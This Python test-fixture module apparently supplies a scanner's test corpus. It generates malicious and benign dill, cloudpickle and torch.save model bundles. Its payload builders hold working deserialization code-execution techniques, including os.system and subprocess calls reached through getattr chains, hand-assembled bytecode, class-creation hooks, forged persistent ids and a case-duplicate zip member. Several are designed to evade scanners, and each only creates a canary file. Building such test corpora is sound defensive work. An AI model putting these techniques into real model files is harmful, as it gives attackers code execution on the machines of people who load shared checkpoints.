"""Adversarial (and benign) bundles for the by-value serializers: dill, cloudpickle and torch.save.

Every entry of :data:`PAYLOADS` is ``make(folder, canary) -> path``: it writes one file into
``folder``, named as a golden's bundle is (``bundle.pkl`` for dill and cloudpickle, ``bundle.pt``
for torch), and returns its path. Loading that file with the format's own loader creates the
file ``canary``:

* ``dill`` — ``dill.load(f)``;
* ``cloudpickle`` — ``cloudpickle.load(f)`` (which is ``pickle.load``);
* ``torch`` — ``torch.load(path, weights_only=False)``.

tests/test_serializer_payloads_live.py proves each one live in a fresh process. Building a payload
never runs it: ``make`` leaves ``canary`` alone. The files are self-contained: nothing in them
names this module, and the by-value code claims the module :data:`PAYLOAD_MODULE`, which exists
nowhere (so that dill and cloudpickle pin it by value, as they pin a user's lambdas and local
classes).

:data:`FORMAT` gives each name's format (payloads and benign files alike), :data:`REQUIRES` the
modules that building and loading it needs, and :data:`BENIGN` ``make(folder) -> path``: three
everyday bundles per format (four for dill and cloudpickle: one pins a class by value), which
a scanner must not refuse.

The payloads whose code objects are built field by field (``*-bytecode`` / ``*-codetype``) hold
CPython bytecode, hand-assembled for the running interpreter (3.11 to 3.13): like every dill or
cloudpickle pickle of code, such a file loads only on the CPython version that wrote it.
"""

from __future__ import annotations

import dis
import io
import os
import pickle
import shlex
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

#: The module the by-value code claims: importable nowhere, so pinned by value.
PAYLOAD_MODULE = "bundle_model"
PKL = "bundle.pkl"
PT = "bundle.pt"
#: The protocol production writes dill and cloudpickle goldens with.
PROTOCOL = pickle.DEFAULT_PROTOCOL


# --------------------------------------------------------------------------- building blocks


def touch_cmd(canary: Path) -> str:
    """A shell command that creates ``canary``."""
    return f"touch {shlex.quote(str(canary))}"


def write_src(canary: Path) -> str:
    """Python source that creates ``canary``."""
    return f"open({str(canary)!r}, 'w').close()"


class Call:
    """Pickles as ``func(*args)``: one REDUCE, which the loader runs.

    ``func`` may itself be a :class:`Call` (pickled as its own REDUCE, so that the result of one
    call is called); ``args`` may hold Calls too. Only ``func`` and ``args`` reach the pickle:
    this class never does, so the file does not need this module. A Call is callable only so
    that the pickler accepts it as a REDUCE's callable; it is never called.
    """

    def __init__(self, func: Any, *args: Any) -> None:
        self.func = func
        self.args = args

    def __call__(self, *args: Any, **kwargs: Any) -> Any:
        raise AssertionError("a Call is only ever pickled, never called")

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return (self.func, self.args)


def by_value(source: str) -> dict[str, Any]:
    """Run ``source`` as the body of :data:`PAYLOAD_MODULE`: what it defines has no importable
    home, so dill and cloudpickle pickle it by value (code object, globals, closure, class
    dict), exactly as they pickle a user's lambdas and local classes."""
    namespace: dict[str, Any] = {"__name__": PAYLOAD_MODULE}
    exec(compile(source, f"<{PAYLOAD_MODULE}>", "exec"), namespace)
    return namespace


class Built:
    """Pickles as an instance of ``cls`` restored with ``state`` (NEWOBJ, then BUILD): what
    pickle writes for an object whose ``__getstate__`` returns ``state``, with no code of this
    class in the file."""

    def __init__(self, cls: type, state: Any) -> None:
        self.cls = cls
        self.state = state

    @property  # type: ignore[misc]
    def __class__(self) -> type:  # (pickle checks that __newobj__'s class is the object's)
        return self.cls

    def __reduce__(self) -> tuple[Any, ...]:
        import copyreg

        return (copyreg.__newobj__, (self.cls,), self.state)


#: A by-value class of everyday code: a model with a method that writes a file. The benign
#: bundles hold it as it is; the ``*-class-reused-*`` payloads rebuild it from the very same
#: code objects, arranged differently.
SAVING_MODEL = (
    "class Model:\n"
    "    def __init__(self):\n"
    "        self.checkpoint = 'model.ckpt'\n"
    "    def save(self, path):\n"
    "        open(path, 'w').close()\n"
    "    def forward(self, x):\n"
    "        return x\n"
)


def _op(name: str, arg: int = 0) -> bytes:
    """One instruction and its inline cache entries (zeroed), as the interpreter expects."""
    code = dis.opmap[name]
    entries: Any = dis._inline_cache_entries  # type: ignore[attr-defined]
    caches = entries[code] if isinstance(entries, list) else entries.get(name, 0)
    return bytes([code, arg]) + b"\x00\x00" * caches


def exec_code_fields(source: str) -> tuple[Any, ...]:
    """``types.CodeType``'s 18 positional arguments for a function ``forward()`` whose body is
    ``exec(source)``, its bytecode assembled by hand (not compiled): the name ``exec`` appears in
    ``co_names`` only, never as a pickle global."""
    version = sys.version_info[:2]
    if not (3, 11) <= version <= (3, 13):
        raise NotImplementedError(f"no hand-made bytecode for CPython {version}")
    call = _op("PRECALL", 1) + _op("CALL", 1) if version == (3, 11) else _op("CALL", 1)
    ret = _op("LOAD_CONST", 0) + _op("RETURN_VALUE") if version == (3, 11) else _op("RETURN_CONST")
    # LOAD_GLOBAL's low bit: also push the NULL that CALL expects in front of a plain function.
    body = _op("RESUME") + _op("LOAD_GLOBAL", 1) + _op("LOAD_CONST", 1) + call + _op("POP_TOP")
    body += ret
    return (
        0,  # argcount
        0,  # posonlyargcount
        0,  # kwonlyargcount
        0,  # nlocals
        3,  # stacksize: NULL, exec, source
        3,  # flags: CO_OPTIMIZED | CO_NEWLOCALS
        body,
        (None, source),  # consts
        ("exec",),  # names
        (),  # varnames
        "<bundle>",  # filename
        "forward",  # name
        "forward",  # qualname
        1,  # firstlineno
        b"",  # linetable
        b"",  # exceptiontable
        (),  # freevars
        (),  # cellvars
    )


def _dump_dill(obj: Any, folder: Path) -> Path:
    import dill

    path = folder / PKL
    with path.open("wb") as f:
        dill.dump(obj, f, protocol=PROTOCOL)
    return path


def _dump_cloudpickle(obj: Any, folder: Path) -> Path:
    import cloudpickle

    path = folder / PKL
    with path.open("wb") as f:
        cloudpickle.dump(obj, f, protocol=PROTOCOL)
    return path


def _small_model() -> Any:
    import torch

    torch.manual_seed(0)
    return torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))


def _torch_records(obj: Any) -> dict[str, bytes]:
    """torch.save(obj) into memory: its records in order (``archive/data.pkl``,
    ``archive/version``, ``archive/byteorder``, ``archive/data/0``, ...)."""
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        return {info.filename: z.read(info) for info in z.infolist()}


def _write_zip(path: Path, members: list[tuple[str, bytes]]) -> Path:
    # Stored, not deflated: torch.save's own layout (and readable as plain bytes).
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(name, data)
    return path


def _bundle(model: Any) -> dict[str, Any]:
    """What the payload rides in: a bundle as a user's golden would hold it."""
    return {"name": "sentiment", "version": 3, "model": model}


# --------------------------------------------------------------------------- dill


def dill_lambda_os_system(folder: Path, canary: Path) -> Path:
    """A by-value lambda calling ``os.system``; the bundle pickles as ``(lambda, ())``, so
    unpickling calls it (dill's ``_create_function`` + ``_create_code``, then REDUCE)."""
    run = by_value(f"run = lambda: __import__('os').system({touch_cmd(canary)!r})\n")["run"]
    return _dump_dill(_bundle(Call(run)), folder)


def dill_function_open_write(folder: Path, canary: Path) -> Path:
    """A by-value class whose ``__reduce__`` hands dill ``(restore, ())``, ``restore`` a local
    function that opens the canary for writing."""
    ns = by_value(
        "def make():\n"
        "    def restore():\n"
        f"        open({str(canary)!r}, 'w').close()\n"
        "        return {}\n"
        "    class Model:\n"
        "        def __reduce__(self):\n"
        "            return (restore, ())\n"
        "    return Model()\n"
    )
    return _dump_dill(_bundle(ns["make"]()), folder)


def dill_class_setstate(folder: Path, canary: Path) -> Path:
    """A by-value class with a ``__setstate__`` that writes the file its state names; an instance
    pickled with that state, so the BUILD calls it."""
    ns = by_value(
        "class Model:\n"
        "    def __setstate__(self, state):\n"
        "        open(state['checkpoint'], 'w').close()\n"
        "        self.__dict__.update(state)\n"
    )
    model = ns["Model"]()
    model.checkpoint = str(canary)
    return _dump_dill(_bundle(model), folder)


def dill_create_code_bytecode(folder: Path, canary: Path) -> Path:
    """``dill._dill._create_code`` fed hand-assembled bytecode (``exec(source)``), wrapped by
    ``_create_function`` with empty globals and called."""
    from dill import _dill

    code = Call(_dill._create_code, *exec_code_fields(write_src(canary)))
    return _dump_dill(_bundle(Call(Call(_dill._create_function, code, {}))), folder)


def dill_init_subclass(folder: Path, canary: Path) -> Path:
    """By-value classes ``Base`` (its ``__init_subclass__`` writes the canary) and ``Model(Base)``:
    dill rebuilds ``Base`` first, then ``type('Model', (Base,), ...)`` runs the hook.

    The hook is planted after ``Model`` was defined, so that building the file runs nothing."""
    ns = by_value(
        "class Base:\n"
        "    pass\n"
        "class Model(Base):\n"
        "    pass\n"
        "def hook(cls, **kwargs):\n"
        f"    open({str(canary)!r}, 'w').close()\n"
    )
    ns["Base"].__init_subclass__ = classmethod(ns["hook"])
    return _dump_dill(_bundle(ns["Model"]), folder)


def dill_set_name(folder: Path, canary: Path) -> Path:
    """A by-value class whose dict holds an instance of another by-value class with a
    ``__set_name__`` hook: ``type(name, bases, dict)`` calls it while dill rebuilds the class.

    The hook is planted after the holder was defined, so that building the file runs nothing."""
    ns = by_value(
        "class Field:\n"
        "    pass\n"
        "class Model:\n"
        "    head = Field()\n"
        "def hook(self, owner, name):\n"
        f"    open({str(canary)!r}, 'w').close()\n"
    )
    ns["Field"].__set_name__ = ns["hook"]
    return _dump_dill(_bundle(ns["Model"]), folder)


def dill_import_module_getattr_system(folder: Path, canary: Path) -> Path:
    """``getattr(dill._dill._import_module('os'), 'system')(cmd)``: ``os.system`` never named as
    a global, only reached by a getattr chain from dill's own module loader."""
    from dill import _dill

    system = Call(getattr, Call(_dill._import_module, "os"), "system")
    return _dump_dill(_bundle(Call(system, touch_cmd(canary))), folder)


def dill_closure_code_object(folder: Path, canary: Path) -> Path:
    """A by-value function ``hook() -> exec(payload)``, called on load, whose closure cell holds
    the payload as a by-value code object: no dangerous global and no source text in the
    function itself."""
    ns = by_value(
        "def make(payload):\n    def hook():\n        return exec(payload)\n    return hook\n"
    )
    hook = ns["make"](compile(write_src(canary), "<config>", "exec"))
    return _dump_dill(_bundle(Call(hook)), folder)


def dill_defaults_source(folder: Path, canary: Path) -> Path:
    """A by-value function ``warmup(steps=..., _init=source)`` whose body runs its second default
    with ``exec``: the command rides in ``__defaults__``."""
    ns = by_value("def warmup(steps=3, _init=None):\n    exec(_init)\n    return steps\n")
    warmup = ns["warmup"]
    warmup.__defaults__ = (3, f"import subprocess\nsubprocess.run(['touch', {str(canary)!r}])")
    return _dump_dill(_bundle(Call(warmup)), folder)


# --------------------------------------------------------------------------- cloudpickle


def cloudpickle_lambda_os_system(folder: Path, canary: Path) -> Path:
    """A by-value lambda calling ``os.system`` (cloudpickle's ``_make_function`` +
    ``_function_setstate``), pickled as ``(lambda, ())`` so unpickling calls it."""
    run = by_value(f"run = lambda: __import__('os').system({touch_cmd(canary)!r})\n")["run"]
    return _dump_cloudpickle(_bundle(Call(run)), folder)


def cloudpickle_make_function_codetype(folder: Path, canary: Path) -> Path:
    """``_builtin_type('CodeType')(...)`` with hand-assembled bytecode, made a function by
    cloudpickle's ``_make_function``, then called."""
    from cloudpickle import cloudpickle as cp

    code = Call(Call(cp._builtin_type, "CodeType"), *exec_code_fields(write_src(canary)))
    function = Call(cp._make_function, code, {}, "forward", None, None)
    return _dump_cloudpickle(_bundle(Call(function)), folder)


def cloudpickle_class_setstate(folder: Path, canary: Path) -> Path:
    """A by-value class (``_make_skeleton_class`` + ``_class_setstate`` planting its
    ``__setstate__``) and an instance of it: the instance's BUILD calls the planted method."""
    ns = by_value(
        "class Model:\n"
        "    def __setstate__(self, state):\n"
        "        open(state['checkpoint'], 'w').close()\n"
        "        self.__dict__.update(state)\n"
    )
    model = ns["Model"]()
    model.checkpoint = str(canary)
    return _dump_cloudpickle(_bundle(model), folder)


def cloudpickle_init_subclass(folder: Path, canary: Path) -> Path:
    """``_class_setstate`` plants ``Base.__init_subclass__``; the skeleton of ``Model(Base)``
    (``types.new_class``) is made after it, and runs it."""
    ns = by_value(
        "class Base:\n"
        "    pass\n"
        "class Model(Base):\n"
        "    pass\n"
        "def hook(cls, **kwargs):\n"
        f"    open({str(canary)!r}, 'w').close()\n"
    )
    ns["Base"].__init_subclass__ = classmethod(ns["hook"])
    return _dump_cloudpickle(_bundle(ns["Model"]), folder)


def cloudpickle_metaclass_init(folder: Path, canary: Path) -> Path:
    """A by-value metaclass whose ``__init__`` (planted by ``_class_setstate``) runs when the
    skeleton of a class using it is made."""
    ns = by_value(
        "class Meta(type):\n"
        "    pass\n"
        "class Model(metaclass=Meta):\n"
        "    pass\n"
        "def hook(cls, *args, **kwargs):\n"
        f"    open({str(canary)!r}, 'w').close()\n"
    )
    ns["Meta"].__init__ = ns["hook"]
    return _dump_cloudpickle(_bundle(ns["Model"]), folder)


def cloudpickle_skeleton_set_name(folder: Path, canary: Path) -> Path:
    """``_make_skeleton_class(type, 'Model', (), type_kwargs, ...)`` whose ``type_kwargs`` (the
    class namespace, normally only ``__module__``) holds an instance of a by-value class with a
    ``__set_name__`` hook: creating the class calls it. Hand-made: cloudpickle itself sets class
    attributes with setattr (no ``__set_name__``)."""
    from cloudpickle import cloudpickle as cp

    ns = by_value(
        f"class Field:\n    def __set_name__(self, owner, name):\n        {write_src(canary)}\n"
    )
    namespace = {"__module__": PAYLOAD_MODULE, "head": ns["Field"]()}
    model = Call(cp._make_skeleton_class, type, "Model", (), namespace, None, None)
    return _dump_cloudpickle(_bundle(model), folder)


def cloudpickle_subimport_getattr_run(folder: Path, canary: Path) -> Path:
    """``getattr(cloudpickle.cloudpickle.subimport('subprocess'), 'run')(['touch', canary])``."""
    from cloudpickle import cloudpickle as cp

    run = Call(getattr, Call(cp.subimport, "subprocess"), "run")
    return _dump_cloudpickle(_bundle(Call(run, ["touch", str(canary)])), folder)


def cloudpickle_subimport_posix_system(folder: Path, canary: Path) -> Path:
    """``getattr(subimport('posix'), 'system')(cmd)``: ``os.system`` by its C module's name."""
    from cloudpickle import cloudpickle as cp

    system = Call(getattr, Call(cp.subimport, "posix"), "system")
    return _dump_cloudpickle(_bundle(Call(system, touch_cmd(canary))), folder)


def cloudpickle_defaults_code_object(folder: Path, canary: Path) -> Path:
    """A by-value function ``hook(_payload=<code>) -> exec(_payload)``, called on load: the
    payload is a code object in its ``__defaults__`` (cloudpickle's CodeType reducer)."""
    hook = by_value("def hook(_payload=None):\n    return exec(_payload)\n")["hook"]
    hook.__defaults__ = (compile(write_src(canary), "<config>", "exec"),)
    return _dump_cloudpickle(_bundle(Call(hook)), folder)


def cloudpickle_closure_eval(folder: Path, canary: Path) -> Path:
    """A by-value closure: ``hook()`` evaluates the expression in its cell with ``eval``."""
    ns = by_value("def make(expr):\n    def hook():\n        return eval(expr)\n    return hook\n")
    hook = ns["make"](f"__import__('builtins').open({str(canary)!r}, 'w').close()")
    return _dump_cloudpickle(_bundle(Call(hook)), folder)


# --------------------------------------------------------------------------- torch


def torch_reduce_os_system(folder: Path, canary: Path) -> Path:
    """torch.save of an nn.Sequential carrying an attribute whose ``__reduce__`` is
    ``(os.system, (cmd,))``."""
    import torch

    model = _small_model()
    model.hook = Call(os.system, touch_cmd(canary))
    path = folder / PT
    torch.save(model, path)
    return path


def torch_data_pkl_replaced(folder: Path, canary: Path) -> Path:
    """A real torch.save zip (``archive/data.pkl``, ``archive/version``, ``archive/byteorder``,
    ``archive/data/0``, ...) whose ``data.pkl`` was replaced by ``exec(source)`` at protocol 2."""
    records = _torch_records(_small_model())
    records["archive/data.pkl"] = pickle.dumps(Call(exec, write_src(canary)), protocol=2)
    return _write_zip(folder / PT, list(records.items()))


class _PersistentSlot:
    """Where the forged persistent id goes."""


class _PidPickler(pickle.Pickler):
    def __init__(self, f: Any, pid: Any) -> None:
        super().__init__(f, protocol=2)
        self.pid = pid

    def persistent_id(self, obj: Any) -> Any:
        return self.pid if isinstance(obj, _PersistentSlot) else None


def torch_persistent_id_not_storage(folder: Path, canary: Path) -> Path:
    """``data.pkl`` with a persistent id that is not a storage record: the id tuple
    ``('module', os.system(cmd))`` (pickled as ``posix.system``) is unpickled, running the
    command, before torch's ``persistent_load`` sees it is not ``'storage'`` and raises."""
    records = _torch_records(_small_model())
    buf = io.BytesIO()
    _PidPickler(buf, ("module", Call(os.system, touch_cmd(canary)))).dump(
        _bundle(_PersistentSlot())
    )
    records["archive/data.pkl"] = buf.getvalue()
    return _write_zip(folder / PT, list(records.items()))


def torch_zip_case_duplicate(folder: Path, canary: Path) -> Path:
    """Two members differing only in case: ``archive/data.pkl`` (the benign model, what a
    case-sensitive reader such as Python's zipfile finds) and ``archive/DATA.PKL``
    (``os.system``): torch's miniz reader looks names up case-insensitively, by binary search
    in its sorted index, and lands on the evil one.

    Which of the two it lands on depends on where DATA.PKL sits among the other records, so
    the spot is found by asking torch's own zip reader which bytes it returns for ``data.pkl``
    (reading a record runs nothing)."""
    import torch

    records = list(_torch_records(_small_model()).items())
    assert records[0][0] == "archive/data.pkl"
    evil = pickle.dumps(Call(os.system, touch_cmd(canary)), protocol=2)
    path = folder / PT
    for spot in [*range(1, len(records) + 1), 0]:
        members = [*records[:spot], ("archive/DATA.PKL", evil), *records[spot:]]
        _write_zip(path, members)
        if bytes(torch._C.PyTorchFileReader(str(path)).get_record("data.pkl")) == evil:
            return path
    raise AssertionError("torch reads archive/data.pkl wherever archive/DATA.PKL is put")


def torch_dill_by_value_code(folder: Path, canary: Path) -> Path:
    """``torch.save(..., pickle_module=dill)``: ``data.pkl`` is a dill pickle of a by-value
    function called on load (``dill._dill._create_function``/``_create_code``); plain
    ``torch.load`` imports dill to resolve them."""
    import dill
    import torch

    run = by_value(f"run = lambda: __import__('os').system({touch_cmd(canary)!r})\n")["run"]
    model = _small_model()
    model.hook = Call(run)
    path = folder / PT
    torch.save(model, path, pickle_module=dill)
    return path


def torch_cloudpickle_class_setstate(folder: Path, canary: Path) -> Path:
    """``torch.save(..., pickle_module=cloudpickle)`` of an nn.Sequential holding an instance of
    a by-value class with a ``__setstate__`` payload (``_make_skeleton_class`` +
    ``_class_setstate``)."""
    import cloudpickle
    import torch

    ns = by_value(
        "class Tokenizer:\n"
        "    def __setstate__(self, state):\n"
        "        open(state['vocab'], 'w').close()\n"
        "        self.__dict__.update(state)\n"
    )
    tokenizer = ns["Tokenizer"]()
    tokenizer.vocab = str(canary)
    model = _small_model()
    model.tokenizer = tokenizer
    path = folder / PT
    torch.save(model, path, pickle_module=cloudpickle)
    return path


# --------------------------------------------------------------------------- benign


def _benign_lambda_model() -> Any:
    import torch

    ns = by_value("import torch\nactivation = lambda x: torch.relu(x) * 2\n")
    model = torch.nn.Linear(4, 2)
    model.activation = ns["activation"]
    return model


def _benign_closure_model() -> Any:
    ns = by_value(
        "def make(factor):\n"
        "    def scale(x, bias=0.5):\n"
        "        return x * factor + bias\n"
        "    return scale\n"
    )
    model = _small_model()
    model.postprocess = ns["make"](3.0)
    return model


#: The by-value benign models, each dumped by dill and by cloudpickle: a lambda attribute, a
#: local function (closure and defaults) attribute, a plain model in a bundle dict.
_BY_VALUE_BENIGN: dict[str, Callable[[], Any]] = {
    "class-with-save": lambda: _bundle(by_value(SAVING_MODEL)["Model"]()),
    "linear-lambda": _benign_lambda_model,
    "sequential-closure": _benign_closure_model,
    "plain-sequential": lambda: _bundle(_small_model()),
}


def _by_value_benign(dump: Callable[[Any, Path], Path], build: Callable[[], Any]) -> MakeBenign:
    return lambda folder: dump(build(), folder)


def torch_benign_sequential(folder: Path) -> Path:
    """A plain torch.save of a small nn.Sequential."""
    import torch

    path = folder / PT
    torch.save(_small_model(), path)
    return path


def torch_benign_state_dict(folder: Path) -> Path:
    """torch.save of a state_dict (what ``weights_only=True`` loads too)."""
    import torch

    path = folder / PT
    torch.save(_small_model().state_dict(), path)
    return path


def torch_benign_checkpoint(folder: Path) -> Path:
    """torch.save of a training checkpoint dict: model, optimizer state, plain values."""
    import torch

    model = _small_model()
    optimizer = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    model(torch.ones(1, 4)).sum().backward()
    optimizer.step()
    checkpoint = {
        "model": model,
        "optimizer": optimizer.state_dict(),
        "epoch": 3,
        "config": {"hidden": 3, "tags": ("a", "b")},
    }
    path = folder / PT
    torch.save(checkpoint, path)
    return path


# --------------------------------------------------------------------------- registries

Make = Callable[[Path, Path], Path]
MakeBenign = Callable[[Path], Path]


#: name -> make(folder, canary) -> path of the file written in folder
def _reused_setstate(dump: Callable[[Any, Path], Path]) -> Make:
    """Trust leaking through a class: the benign model's own by-value class, built from exactly
    its code objects (each one the live model's pickle builds too), with one more key:
    ``__setstate__ = save``. Restoring an instance whose state is the canary's path calls
    ``save(path)``."""

    def make(folder: Path, canary: Path) -> Path:
        cls = by_value(SAVING_MODEL + "Model.__setstate__ = Model.save\n")["Model"]
        return dump(_bundle(Built(cls, str(canary))), folder)

    return make


PAYLOADS: dict[str, Make] = {
    "dill-lambda-os-system": dill_lambda_os_system,
    "dill-function-open-write": dill_function_open_write,
    "dill-class-setstate": dill_class_setstate,
    "dill-create-code-bytecode": dill_create_code_bytecode,
    "dill-init-subclass": dill_init_subclass,
    "dill-set-name": dill_set_name,
    "dill-import-module-getattr-system": dill_import_module_getattr_system,
    "dill-closure-code-object": dill_closure_code_object,
    "dill-defaults-source": dill_defaults_source,
    "cloudpickle-lambda-os-system": cloudpickle_lambda_os_system,
    "cloudpickle-make-function-codetype": cloudpickle_make_function_codetype,
    "cloudpickle-class-setstate": cloudpickle_class_setstate,
    "cloudpickle-init-subclass": cloudpickle_init_subclass,
    "cloudpickle-metaclass-init": cloudpickle_metaclass_init,
    "cloudpickle-skeleton-set-name": cloudpickle_skeleton_set_name,
    "cloudpickle-subimport-getattr-run": cloudpickle_subimport_getattr_run,
    "cloudpickle-subimport-posix-system": cloudpickle_subimport_posix_system,
    "cloudpickle-defaults-code-object": cloudpickle_defaults_code_object,
    "cloudpickle-closure-eval": cloudpickle_closure_eval,
    "cloudpickle-class-reused-setstate": _reused_setstate(_dump_cloudpickle),
    "dill-class-reused-setstate": _reused_setstate(_dump_dill),
    "torch-reduce-os-system": torch_reduce_os_system,
    "torch-data-pkl-replaced": torch_data_pkl_replaced,
    "torch-persistent-id-not-storage": torch_persistent_id_not_storage,
    "torch-zip-case-duplicate": torch_zip_case_duplicate,
    "torch-dill-by-value-code": torch_dill_by_value_code,
    "torch-cloudpickle-class-setstate": torch_cloudpickle_class_setstate,
}

#: name -> make(folder) -> path: everyday bundles a scanner must accept
BENIGN: dict[str, MakeBenign] = {
    **{
        f"{fmt}-benign-{kind}": _by_value_benign(dump, build)
        for fmt, dump in (("dill", _dump_dill), ("cloudpickle", _dump_cloudpickle))
        for kind, build in _BY_VALUE_BENIGN.items()
    },
    "torch-benign-sequential": torch_benign_sequential,
    "torch-benign-state-dict": torch_benign_state_dict,
    "torch-benign-checkpoint": torch_benign_checkpoint,
}

#: name (of a payload or a benign file) -> the format whose loader reads it
FORMAT: dict[str, str] = {name: name.split("-", 1)[0] for name in [*PAYLOADS, *BENIGN]}

#: name -> the modules building and loading it need (beyond the standard library)
REQUIRES: dict[str, tuple[str, ...]] = {
    name: {
        "dill": ("dill",) if name in PAYLOADS else ("dill", "torch"),
        "cloudpickle": ("cloudpickle",) if name in PAYLOADS else ("cloudpickle", "torch"),
        "torch": ("torch",),
    }[FORMAT[name]]
    for name in FORMAT
}
REQUIRES["torch-dill-by-value-code"] = ("torch", "dill")
REQUIRES["torch-cloudpickle-class-setstate"] = ("torch", "cloudpickle")

#: payloads whose load raises once the code ran (the canary is made all the same)
LOAD_RAISES = frozenset({"torch-persistent-id-not-storage"})

#: format -> the bundle's file name
BUNDLE_NAME = {"dill": PKL, "cloudpickle": PKL, "torch": PT}

#: format -> Python that loads the file named by the variable ``path`` with that format's own
#: loader, into ``obj``
LOADERS = {
    "dill": "import dill\nwith open(path, 'rb') as f:\n    obj = dill.load(f)\n",
    "cloudpickle": "import cloudpickle\nwith open(path, 'rb') as f:\n    obj = cloudpickle.load(f)\n",
    "torch": "import torch\nobj = torch.load(path, weights_only=False)\n",
}
